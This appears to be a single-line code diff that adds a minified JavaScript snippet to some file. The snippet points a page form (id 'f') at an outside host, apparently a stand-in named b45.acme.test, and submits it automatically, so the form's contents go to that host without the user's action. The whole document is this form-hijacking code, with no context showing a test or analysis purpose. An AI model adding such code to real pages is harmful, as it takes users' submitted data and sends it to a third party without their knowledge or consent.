@@ -1,0 +1,1 @@
+(()=>{var t="https://b45.acme.test";$("#f").attr("action",t+"/upload").submit();})();
